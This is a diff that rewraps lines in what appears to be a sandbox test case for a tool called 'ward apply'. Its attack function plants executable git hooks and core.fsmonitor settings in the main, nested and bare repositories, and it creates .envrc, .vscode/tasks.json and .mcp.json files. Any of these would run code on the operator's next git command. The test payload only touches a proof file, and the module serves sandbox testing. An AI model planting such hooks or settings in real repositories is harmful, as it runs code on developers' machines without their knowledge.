@@ -1,4 +1,5 @@
-"""Plants what runs with the operator's rights, in the hope that `ward apply` brings it: hooks, hooksPath, fsmonitor, editor settings, links for them.
+"""Plants what runs with the operator's rights, in the hope that `ward apply` brings it: hooks,
+hooksPath, fsmonitor, editor settings, links for them.
 
 layer: apply
 control: without a sandbox the operator's next git command runs it
@@ -18,13 +19,15 @@ def scene(s):
 def attack(a):
     import subprocess
     evil = f"#!/bin/sh\ntouch {a['proof']}\n"
-    for path in (".git/hooks/post-checkout", ".git/hooks/pre-commit", "evil.sh", "hooks.d/pre-commit"):
+    for path in (".git/hooks/post-checkout", ".git/hooks/pre-commit", "evil.sh",
+                 "hooks.d/pre-commit"):
         put(path, evil)
         os.chmod(path, 0o755)
     subprocess.run(["git", "config", "core.fsmonitor", a["ws"] + "/evil.sh"])
     attempt(put, ".git/config.worktree", "[core]\n\tfsmonitor = ./evil.sh\n")
     subprocess.run(["git", "init", "-q", "sub"])
-    put("sub/.git/config", f"[core]\n\tfsmonitor = {a['ws']}/evil.sh\n\trepositoryformatversion = 0\n")
+    put("sub/.git/config",
+        f"[core]\n\tfsmonitor = {a['ws']}/evil.sh\n\trepositoryformatversion = 0\n")
     subprocess.run(["git", "init", "-q", "--bare", "bare"])
     put("bare/hooks/pre-commit", evil)
     os.chmod("bare/hooks/pre-commit", 0o755)
@@ -33,7 +36,8 @@ def attack(a):
     for directory in ("evil", "evil/objects", "evil/refs"):
         os.mkdir(directory)
     put("evil/HEAD", "ref: refs/heads/main\n")
-    put("evil/config", f"[core]\n\tfsmonitor = {a['ws']}/evil.sh\n\trepositoryformatversion = 0\n\tworktree = {a['ws']}/fake\n")
+    put("evil/config", f"[core]\n\tfsmonitor = {a['ws']}/evil.sh\n\trepositoryformatversion = 0\n"
+        f"\tworktree = {a['ws']}/fake\n")
     for name in (".envrc", ".vscode/tasks.json", ".mcp.json"):
         os.makedirs(os.path.dirname(name) or ".", exist_ok=True)
         put(name, "{}\n")
@@ -48,6 +52,8 @@ def escaped(s, r):
         path = os.path.join(s.ws, directory)
         if os.path.isdir(path):
             s.t.run("git", "status", cwd=path)
-            s.t.run("git", "-c", "user.name=o", "-c", "user.email=o@example.com", "commit", "--allow-empty", "-qm", "x", cwd=path)
-    planted = any(os.path.lexists(os.path.join(s.ws, n)) for n in (".envrc", ".vscode/tasks.json", ".mcp.json", ".husky"))
+            s.t.run("git", "-c", "user.name=o", "-c", "user.email=o@example.com", "commit",
+                    "--allow-empty", "-qm", "x", cwd=path)
+    planted = any(os.path.lexists(os.path.join(s.ws, n))
+                  for n in (".envrc", ".vscode/tasks.json", ".mcp.json", ".husky"))
     return os.path.exists(s.proof) or planted
